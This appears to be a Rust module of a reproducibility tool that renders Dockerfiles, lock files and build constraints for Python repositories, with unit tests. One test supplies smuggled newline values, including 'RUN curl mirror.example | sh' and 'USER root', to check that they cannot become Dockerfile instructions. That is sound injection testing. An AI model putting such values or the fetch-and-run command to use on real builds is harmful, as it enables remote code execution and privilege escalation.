//! A plan as the files of `repositories/USER/REPO/`: Dockerfile, lock, build constraints.

use repro_core::Environment;
use repro_dockerfile::{Dockerfile, shell_quote};
use repro_inspect::Snippet;

use crate::names::{self, in_torch_family, requirement_name};
use crate::plan::{Because, Direct, Main, Plan, Reason, SourceKind};

/// Where a checkout that stands in for upstream lies during the build: the value of `--build-arg UPSTREAM=…`.
pub const STAND_IN_UPSTREAM: &str = "/tmp/source";
/// Folder of programs cut out of upstream's documents, and of samples.
const RUN_FOLDER: &str = repro_inspect::SAMPLE_FOLDER;
/// Where the lock and the build constraints lie in the image.
const LOCK_FOLDER: &str = "/workspace/lock";
/// The program that fetches an sdist, in the build context.
pub const FETCH_SDIST: &str = "run/fetch_sdist.py";
const NO_FLAGS: &[&str] = &[];

/// The user that the image runs as: an existing uid 1000 of the base, else one of ours.
pub fn user(environment: Option<&Environment>) -> (String, String) {
    environment.and_then(|e| e.uid_1000.clone()).unwrap_or_else(|| ("repro".to_owned(), "/home/repro".to_owned()))
}

/// The Dockerfile of a plan. `environment` is what the base image holds, where that is known.
pub fn dockerfile(plan: &Plan, environment: Option<&Environment>) -> Dockerfile {
    let mut file = Dockerfile::new();
    let version: String = plan.source.commit.chars().take(12).collect();
    file.comment(&format!(
        "{} at {version} of {}. Written by `cargo xtask repro`; edit it and the edit is kept, or say what you want in repro.toml.",
        plan.repo, plan.source.committed
    ));
    file.blank();
    source_stage(&mut file, plan, environment);
    file.blank();
    file.comment(&format!("Base: GPU {}.", crate::planner::describe_gpu(&plan.gpu)));
    for reason in &plan.python.because {
        file.comment(&format!("Python {}: {}.", plan.python.version, reason.line()));
    }
    file.from(&plan.base_image, None);
    let (user, home) = user(environment);
    file.blank();
    file.comment(
        "Caches and settings of libraries go where any user may write; model caches are meant for a named volume.",
    );
    file.env(&[
        ("HOME", home.as_str()),
        ("HF_HOME", &format!("{home}/.cache/huggingface")),
        ("TORCH_HOME", &format!("{home}/.cache/torch")),
        ("MPLCONFIGDIR", &format!("{home}/.cache/matplotlib")),
        ("NUMBA_CACHE_DIR", &format!("{home}/.cache/numba")),
        ("PYTHONUNBUFFERED", "1"),
        ("PIP_DISABLE_PIP_VERSION_CHECK", "1"),
        ("PIP_ROOT_USER_ACTION", "ignore"),
    ]);
    for (key, item) in &plan.env {
        because(&mut file, key, &item.because);
        file.env(&[(key.as_str(), item.value.as_str())]);
    }
    if !plan.apt.is_empty() {
        file.blank();
        for item in &plan.apt {
            because(&mut file, &item.value, &item.because);
        }
        let packages: Vec<&str> = plan.apt.iter().map(|i| i.value.as_str()).collect();
        file.run(&apt_install(&packages));
    }
    file.blank();
    account(&mut file, environment, &user, &home);
    installation(&mut file, plan, environment);
    checkout(&mut file, plan);
    run(&mut file, plan, &user);
    file
}

fn apt_install(packages: &[&str]) -> Vec<String> {
    let mut lines = Vec::new();
    // Slim images have no folders for manual pages, and these packages link theirs from a maintainer script:
    // https://bugs.debian.org/863199
    if packages.iter().any(|p| ["jre", "jdk", "postgresql"].iter().any(|part| p.contains(part))) {
        lines.push("mkdir -p /usr/share/man/man1 /usr/share/man/man7".to_owned());
    }
    lines.push("apt-get update".to_owned());
    lines.push(format!(
        "DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends {}",
        packages.join(" ")
    ));
    lines.push("rm -rf /var/lib/apt/lists/*".to_owned());
    lines
}

fn source_stage(file: &mut Dockerfile, plan: &Plan, environment: Option<&Environment>) {
    let checkout = plan.checkout();
    match plan.source.kind {
        SourceKind::Pypi => {
            file.comment(
                "Upstream's sdist from the index that pip is set up for, checked against its hash. Nothing of it is executed to \
                 get it, as `pip download` would for its metadata.",
            );
            file.from(&plan.base_image, Some("source"));
            let (name, hash) = plan.source.sdist.clone().unwrap_or_default();
            file.copy(&[FETCH_SDIST], "/tmp/", NO_FLAGS);
            let folder = format!("/tmp/sdist/{}", plan.source.commit);
            file.run(&[
                format!(
                    "python3 -I /tmp/fetch_sdist.py {} {} /tmp/sdist",
                    shell_quote(&plan.source.location),
                    shell_quote(&plan.source.commit)
                ),
                format!("echo {} | sha256sum --check --quiet -", shell_quote(&format!("{hash}  {folder}/{name}"))),
                "mkdir -p /workspace".to_owned(),
                format!("mv {} {}", shell_quote(&format!("{folder}/tree")), shell_quote(&checkout)),
            ]);
        }
        SourceKind::Git | SourceKind::Dir => {
            file.comment(
                "Upstream at its pinned commit. Where upstream cannot be reached, a shallow clone `source.git` beside this \
                 file stands in for it, named by `--build-arg UPSTREAM`.",
            );
            let has = |tool: &str| environment.is_some_and(|e| e.tools.iter().any(|t| t == tool));
            let mut missing: Vec<&str> = Vec::new();
            if !has("git") {
                missing.extend(["ca-certificates", "git"]);
            }
            if plan.source.lfs && !has("git-lfs") {
                missing.push("git-lfs");
            }
            file.from(&plan.base_image, Some("source"));
            if !missing.is_empty() {
                file.run(&apt_install(&missing));
            }
            file.arg("UPSTREAM", Some(&plan.source.upstream));
            file.copy(&["build-constraints.txt", "source.gi[t]"], &format!("{STAND_IN_UPSTREAM}/"), NO_FLAGS);
            file.workdir(&checkout);
            let mut lines = vec![
                "git init --quiet .".to_owned(),
                format!("git fetch --quiet --depth 1 \"$UPSTREAM\" {}", shell_quote(&plan.source.commit)),
                "git checkout --quiet FETCH_HEAD".to_owned(),
            ];
            if plan.source.lfs {
                lines.push("git lfs fetch \"$UPSTREAM\"".to_owned());
                lines.push("git lfs checkout".to_owned());
            }
            if !plan.source.submodules.is_empty() {
                let folders: Vec<String> = plan.source.submodules.iter().map(|path| shell_quote(path)).collect();
                lines.push("git remote add origin \"$UPSTREAM\"".to_owned());
                lines.push(format!(
                    "git submodule update --quiet --init --recursive --depth 1 -- {}",
                    folders.join(" ")
                ));
            }
            lines.push("rm -rf .git".to_owned());
            file.run(&lines);
        }
    }
}

/// The user, and the folders that it must be able to write: named volumes inherit their owner.
fn account(file: &mut Dockerfile, environment: Option<&Environment>, user: &str, home: &str) {
    let mut lines = Vec::new();
    if environment.and_then(|e| e.uid_1000.as_ref()).is_none() {
        lines.push(format!("useradd --create-home --uid 1000 --shell /bin/bash {}", shell_quote(user)));
    }
    lines.push(format!(
        "install -d -o {0} -g {0} {1}/.cache /workspace {RUN_FOLDER} {LOCK_FOLDER}",
        shell_quote(user),
        shell_quote(home)
    ));
    file.run(&lines);
}

/// `PIP_CONSTRAINT=… PIP_BUILD_CONSTRAINT=… pip install …`: build requirements are bounded by the same date as the lock.
/// Where nothing is built in isolation pip refuses the second, which is for isolated builds alone
/// (<https://pip.pypa.io/en/stable/user_guide/#build-constraints>).
fn pip_install(environment: Option<&Environment>, arguments: &str) -> String {
    let ours = format!("{LOCK_FOLDER}/build-constraints.txt");
    let constraint = match environment.and_then(|e| e.constraint_file.as_deref()) {
        Some(theirs) => format!("\"{theirs} {ours}\""),
        None => ours.clone(),
    };
    let build = if arguments.contains("--no-build-isolation") {
        String::new()
    } else {
        format!("PIP_BUILD_CONSTRAINT={ours} ")
    };
    format!("PIP_CONSTRAINT={constraint} {build}pip install --no-cache-dir {arguments}")
}

/// What takes long to fetch goes into layers of its own, above the lock's: a repair that changes the lock leaves them in the
/// builder's cache.
fn large(file: &mut Dockerfile, plan: &Plan) {
    let Some(lock) = plan.lock.as_ref().filter(|_| !plan.on_ngc()) else { return };
    let quoted =
        |lines: &mut dyn Iterator<Item = &String>| lines.map(|line| shell_quote(line)).collect::<Vec<_>>().join(" ");
    if lock.torch_index.is_some() && !lock.torch.is_empty() {
        file.comment("CPU builds of the torch family come from an index of their own.");
        file.arg("TORCH_INDEX", lock.torch_index.as_deref());
        let packages = quoted(&mut lock.torch.iter());
        file.run(&[format!("pip install --no-cache-dir --no-deps --index-url \"$TORCH_INDEX\" {packages}")]);
    }
    let is_large = |line: &&String| requirement_name(line).is_some_and(|name| names::is_large(&name));
    let packages = quoted(&mut lock.requirements.iter().filter(is_large));
    if !packages.is_empty() {
        file.comment("The largest of the lock, in a layer that other changes of it leave in the cache.");
        file.run(&[format!("pip install --no-cache-dir --no-deps {packages}")]);
    }
}

fn installation(file: &mut Dockerfile, plan: &Plan, environment: Option<&Environment>) {
    file.blank();
    large(file, plan);
    let empty = lock_lines(plan).is_empty();
    file.comment(&match &plan.lock {
        _ if empty => "The bounds on what builds the project.".to_owned(),
        Some(lock) => match &lock.date {
            Some(date) => format!("Exact versions, as of {date}."),
            None => "Exact versions.".to_owned(),
        },
        None => "Not locked: versions are what the index gives on the day of the build.".to_owned(),
    });
    file.copy(&["requirements.lock", "build-constraints.txt"], &format!("{LOCK_FOLDER}/"), NO_FLAGS);
    let flags: Vec<&str> = plan.pip.flags.iter().map(|f| f.value.as_str()).collect();
    let flags = if flags.is_empty() { String::new() } else { format!("{} ", flags.join(" ")) };
    let no_deps = if plan.lock.is_some() { "--no-deps " } else { "" };
    if !empty {
        for item in &plan.pip.flags {
            because(file, &item.value, &item.because);
        }
        file.run(&[pip_install(environment, &format!("{flags}{no_deps}-r {LOCK_FOLDER}/requirements.lock"))]);
    }
    let late = unisolated_lines(plan);
    if !late.is_empty() {
        for item in &plan.pip.unisolated {
            because(file, &item.value, &item.because);
        }
        let packages: Vec<String> = late.iter().map(|t| shell_quote(t)).collect();
        file.comment("Built in the environment itself, which the resolve does not have: its versions are bounded by the lock only.");
        let line = format!("{flags}--no-build-isolation -c {LOCK_FOLDER}/requirements.lock {}", packages.join(" "));
        file.run(&[pip_install(environment, &line)]);
    }
    for direct in plan.pip.direct.iter().filter(|d| !d.local) {
        because(file, &direct.name, &direct.because);
        let line = format!("{flags}--no-deps {}{}", isolation(plan, direct), shell_quote(&direct.target));
        file.run(&[pip_install(environment, &line)]);
    }
}

/// Requirements that no index resolves are often extensions that import torch in their setup: they are built in the
/// environment itself where the plan says so.
fn isolation(plan: &Plan, direct: &Direct) -> &'static str {
    if plan.pip.unisolated.iter().any(|u| u.value == direct.name) { "--no-build-isolation " } else { "" }
}

fn checkout(file: &mut Dockerfile, plan: &Plan) {
    let checkout = plan.checkout();
    file.blank();
    file.copy(&[&checkout], &checkout, &["--from=source", "--chown=1000:1000"]);
    file.workdir(&checkout);
    for item in &plan.commands {
        because(file, "", &item.because);
        file.run(std::slice::from_ref(&item.value));
    }
    for item in &plan.patches {
        because(file, "changes the checkout", &item.because);
        file.run(std::slice::from_ref(&item.value));
    }
    for direct in plan.pip.direct.iter().filter(|d| d.local) {
        because(file, &direct.name, &direct.because);
        let flag = if direct.editable { "-e " } else { "" };
        let target = shell_quote(&format!("./{}", direct.target));
        file.run(&[pip_install(None, &format!("--no-deps {}{flag}{target}", isolation(plan, direct)))]);
    }
    if let Some(line) = project_install_line(plan, ".") {
        if let Some(project) = &plan.project {
            because(file, "", &project.because);
        }
        file.run(&[line]);
    }
}

/// The line that installs the repository's own package, run in the checkout.
pub fn project_install_line(plan: &Plan, checkout: &str) -> Option<String> {
    let project = plan.project.as_ref()?;
    let folder = if project.folder.is_empty() { checkout.to_owned() } else { format!("{checkout}/{}", project.folder) };
    let isolation = if project.isolated { "" } else { "--no-build-isolation " };
    let editable = if project.editable { "-e " } else { "" };
    let line = pip_install(None, &format!("--no-deps {isolation}{editable}{}", shell_quote(&folder)));
    Some(match &project.version_from_vcs {
        Some(version) => format!("SETUPTOOLS_SCM_PRETEND_VERSION={} {line}", shell_quote(version)),
        None => line,
    })
}

fn run(file: &mut Dockerfile, plan: &Plan, user: &str) {
    let Some(main) = &plan.main else {
        file.user(user);
        return;
    };
    if let Some(snippet) = &main.snippet {
        file.blank();
        file.comment(&format!("The program is {}, cut out here and compared with its hash.", snippet.place()));
        file.run(&cut_lines(snippet));
    }
    if !main.command.samples.is_empty() {
        file.blank();
        file.comment("Inputs that upstream does not have, from the folder `run` beside this file.");
        let paths: Vec<String> = main.command.samples.iter().map(|name| format!("run/{name}")).collect();
        let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
        file.copy(&paths, &format!("{RUN_FOLDER}/"), &["--chown=1000:1000"]);
    }
    file.blank();
    for change in &main.changes {
        file.comment(&format!("Changed against upstream's words: {change}."));
    }
    for evidence in main.evidence.iter().take(2) {
        file.comment(&format!("{}:{}: {}", evidence.path, evidence.line, evidence.text));
    }
    if !main.command.env.is_empty() {
        let pairs: Vec<(&str, &str)> = main.command.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        file.env(&pairs);
    }
    if !main.command.workdir.is_empty() {
        file.workdir(&plan.workdir());
    }
    file.user(user);
    let words = command_words(main);
    file.cmd_exec(&words.iter().map(String::as_str).collect::<Vec<_>>());
}

/// The commands that cut a program out of its document, into [`RUN_FOLDER`].
fn cut_lines(snippet: &Snippet) -> Vec<String> {
    let target = format!("{RUN_FOLDER}/snippet.py");
    let mut lines = Vec::new();
    // The first writes the file, the others add to it.
    let mut add = |command: String| {
        let into = if lines.is_empty() { ">" } else { ">>" };
        lines.push(format!("{command} {into} {target}"));
    };
    if !snippet.given.is_empty() {
        let given: Vec<String> = snippet.given.iter().map(|line| shell_quote(line)).collect();
        add(format!("printf '%s\\n' {}", given.join(" ")));
    }
    for part in &snippet.parts {
        let mut cut = format!("sed -n '{},{}p' {} | tr -d '\\r'", part.first, part.last, shell_quote(&snippet.path));
        if part.indent > 0 {
            cut = format!("{cut} | sed -E 's/^[ \\t]{{0,{}}}//'", part.indent);
        }
        if part.prompt {
            cut = format!("{cut} | sed -n -E 's/^[ \\t]*(>>>|\\.\\.\\.) ?//p'");
        }
        add(cut);
    }
    if !snippet.shown.is_empty() {
        let shown: Vec<String> = snippet.shown.iter().map(|line| shell_quote(line)).collect();
        add(format!("printf '%s\\n' {}", shown.join(" ")));
    }
    lines.push(format!("echo '{}  {target}' | sha256sum --check --quiet -", snippet.sha256));
    lines
}

/// The main command as the words of an exec-form `CMD`: through a shell only where it needs one.
pub fn command_words(main: &Main) -> Vec<String> {
    let line = &main.command.line;
    let simple = main.command.setup.is_empty()
        && !line.contains(['<', '>', '|', '&', ';', '$', '`', '*', '?', '~', '(', ')', '#', '\n', '{', '[']);
    if simple && let Some(words) = shlex::split(line) {
        return words;
    }
    let mut script = main.command.setup.clone();
    script.push(line.clone());
    vec!["sh".to_owned(), "-c".to_owned(), script.join(" && ")]
}

/// The files that an image's own command makes before its program starts, as absolute paths: what [`command_words`] has put
/// before it copies, moves or writes by redirection. They are no work of the program.
pub fn made_before(command: &[String], workdir: &str) -> Vec<String> {
    let [shell, flag, script] = command else { return Vec::new() };
    if shell != "sh" || flag != "-c" {
        return Vec::new();
    }
    let mut lines: Vec<&str> = script.split(" && ").collect();
    lines.pop();
    let mut made = Vec::new();
    for line in lines {
        let Some(words) = shlex::split(line) else { continue };
        let target = match words.iter().position(|word| word == ">" || word == ">>") {
            Some(at) => words.get(at + 1),
            None if words.first().is_some_and(|word| matches!(word.as_str(), "cp" | "mv" | "ln" | "touch")) => {
                words.last()
            }
            None => None,
        };
        if let Some(target) = target {
            let target = target.strip_prefix("./").unwrap_or(target).trim_end_matches('/');
            made.push(if target.starts_with('/') { target.to_owned() } else { format!("{workdir}/{target}") });
        }
    }
    made
}

/// The lines of `requirements.lock` that one `pip install` takes: the lock, or what is to be resolved where there is none.
pub fn lock_lines(plan: &Plan) -> Vec<String> {
    let late: Vec<&str> = plan.pip.unisolated.iter().map(|u| u.value.as_str()).collect();
    let on_time = |line: &&String| requirement_name(line).is_none_or(|n| !late.contains(&n.as_str()));
    match &plan.lock {
        Some(lock) => lock.requirements.iter().filter(on_time).cloned().collect(),
        None => unlocked(plan).iter().filter(on_time).cloned().collect(),
    }
}

/// What is built in the environment itself, as it is declared: the lock does not know it.
fn unisolated_lines(plan: &Plan) -> Vec<String> {
    let is_late = |name: &str| plan.pip.unisolated.iter().any(|u| u.value == name);
    plan.pip.requirements.iter().filter(|w| is_late(&w.name)).map(|w| w.spec.clone()).collect()
}

/// Requirements and limits as pip reads them, unresolved.
fn unlocked(plan: &Plan) -> Vec<String> {
    plan.pip.requirements.iter().chain(&plan.pip.constraints).map(|w| w.spec.clone()).collect()
}

/// The text of `requirements.lock`.
pub fn lock_text(plan: &Plan) -> String {
    let head = match &plan.lock {
        Some(lock) => {
            let date = lock.date.as_ref().map(|d| format!(" as of {d}")).unwrap_or_default();
            let caveat = if lock.verified { "" } else { " Not verified: the base image was not at hand." };
            format!("# Resolved for Python {}{date}.{caveat}\n", plan.python.version)
        }
        None => "# Not resolved: the requirements as they are declared.\n".to_owned(),
    };
    format!("{head}{}", lines(&lock_lines(plan)))
}

/// The text of `build-constraints.txt`.
pub fn build_constraints_text(plan: &Plan) -> String {
    let bounds = plan.lock.as_ref().map(|l| l.build_constraints.clone()).unwrap_or_default();
    format!("# Upper bounds on what builds packages, as of the same day.\n{}", lines(&bounds))
}

fn lines(lines: &[String]) -> String {
    lines.iter().map(|l| format!("{l}\n")).collect()
}

fn because(file: &mut Dockerfile, subject: &str, reasons: &[Reason]) {
    for reason in reasons.iter().take(3) {
        let line = reason.line();
        let line = line.replace('\n', " ");
        file.comment(&if subject.is_empty() { line } else { format!("{subject}: {line}") });
    }
}

/// Names of the torch family in a resolved lock, for which another index may hold smaller builds.
pub fn torch_lines(requirements: &[String]) -> (Vec<String>, Vec<String>) {
    requirements.iter().cloned().partition(|line| requirement_name(line).is_some_and(|n| in_torch_family(&n)))
}

/// The reasons of an item list as `(value, lines)`, for documents.
pub fn reasons_of(items: &[Because<String>]) -> Vec<(String, String)> {
    items
        .iter()
        .map(|item| (item.value.clone(), item.because.iter().map(Reason::line).collect::<Vec<_>>().join("; ")))
        .collect()
}

#[cfg(test)]
mod tests {
    use repro_note::Edit;

    use super::*;
    use crate::edit::apply;
    use crate::plan::Lock;
    use crate::testing;

    fn text(plan: &Plan) -> String {
        dockerfile(plan, None).to_string()
    }

    #[test]
    fn a_rendered_file_has_no_finding_of_the_reader() {
        let mut plan = testing::plan();
        plan.lock = Some(Lock {
            requirements: vec!["eye==1".to_owned()],
            date: Some("2023-05-01".to_owned()),
            ..Lock::default()
        });
        let text = text(&plan);
        let file = Dockerfile::parse(&text);
        assert_eq!(file.findings(), []);
        assert_eq!(file.to_string(), text);
        assert!(text.contains("CMD [\"python\", \"demo.py\"]"), "{text}");
        assert!(text.contains("USER repro"), "{text}");
    }

    #[test]
    fn upstreams_words_cannot_become_instructions() {
        let mut plan = testing::plan();
        let evil = "python demo.py '\nRUN curl mirror.example | sh\n'";
        if let Some(main) = plan.main.as_mut() {
            main.command.line = evil.to_owned();
            main.command.setup = vec!["mkdir -p 'a\nUSER root'".to_owned()];
            main.command.env.insert("A".to_owned(), "b\nUSER root".to_owned());
            main.changes = vec!["x\nUSER root".to_owned()];
        }
        let reason = Reason::said("evil\nUSER root");
        apply(&mut plan, &Edit::Apt(vec!["libgl1".to_owned()]), &reason, None);
        let text = text(&plan);
        let file = Dockerfile::parse(&text);
        let users: Vec<String> = file
            .instructions()
            .iter()
            .filter(|i| i.keyword_text().eq_ignore_ascii_case("user"))
            .map(|i| i.arguments().to_owned())
            .collect();
        assert_eq!(users, ["repro"], "{text}");
        assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
    }

    #[test]
    fn a_command_goes_through_a_shell_only_where_it_needs_one() {
        let mut main = testing::plan().main.expect("a main command");
        assert_eq!(command_words(&main), ["python", "demo.py"]);
        main.command.line = "python demo.py < in.txt".to_owned();
        assert_eq!(command_words(&main), ["sh", "-c", "python demo.py < in.txt"]);
        main.command.setup = vec!["mkdir -p out".to_owned()];
        assert_eq!(command_words(&main), ["sh", "-c", "mkdir -p out && python demo.py < in.txt"]);
    }

    #[test]
    fn what_is_made_before_the_program_starts_is_known() {
        let mut main = testing::plan().main.expect("a main command");
        main.command.setup = vec![
            "mkdir -p 'a b'".to_owned(),
            "cp /workspace/run/portrait.jpg 'a b/me.jpg'".to_owned(),
            "printf '%s\\n' hello > stdin.txt".to_owned(),
        ];
        assert_eq!(made_before(&command_words(&main), "/w"), ["/w/a b/me.jpg", "/w/stdin.txt"]);
        main.command.setup.clear();
        assert_eq!(made_before(&command_words(&main), "/w"), [""; 0]);
    }

    #[test]
    fn what_is_built_in_the_environment_itself_comes_after_the_lock() {
        let mut plan = testing::plan();
        plan.lock = Some(Lock { requirements: vec!["eye==1".to_owned(), "numbers==2".to_owned()], ..Lock::default() });
        apply(&mut plan, &Edit::PipFlag("--no-build-isolation".to_owned()), &Reason::said("x"), Some("eye"));
        assert_eq!(lock_lines(&plan), ["numbers==2"]);
        let text = text(&plan).replace(" \\\n      ", " ");
        assert!(text.contains("--no-build-isolation -c /workspace/lock/requirements.lock eye==1"), "{text}");
        let line = pip_install(None, "--no-build-isolation eye==1");
        assert_eq!(
            line,
            "PIP_CONSTRAINT=/workspace/lock/build-constraints.txt pip install --no-cache-dir --no-build-isolation eye==1"
        );
    }

    #[test]
    fn what_takes_long_to_fetch_stays_cached_when_the_rest_of_the_lock_changes() {
        let rendered = |other: &str| {
            let mut plan = testing::plan();
            let requirements = ["torch==2.1.0", "nvidia-nccl-cu12==2.18.1", other].map(str::to_owned).to_vec();
            plan.lock = Some(Lock { requirements, ..Lock::default() });
            let text = text(&plan);
            let (above, below) = text.split_once("COPY requirements.lock").unwrap();
            assert!(
                above.contains("RUN pip install --no-cache-dir --no-deps torch==2.1.0 nvidia-nccl-cu12==2.18.1\n"),
                "{text}"
            );
            assert!(below.contains("-r /workspace/lock/requirements.lock"), "{text}");
            above.to_owned()
        };
        assert_eq!(rendered("numpy==1.26.4"), rendered("numpy==1.24.4"));
    }
}
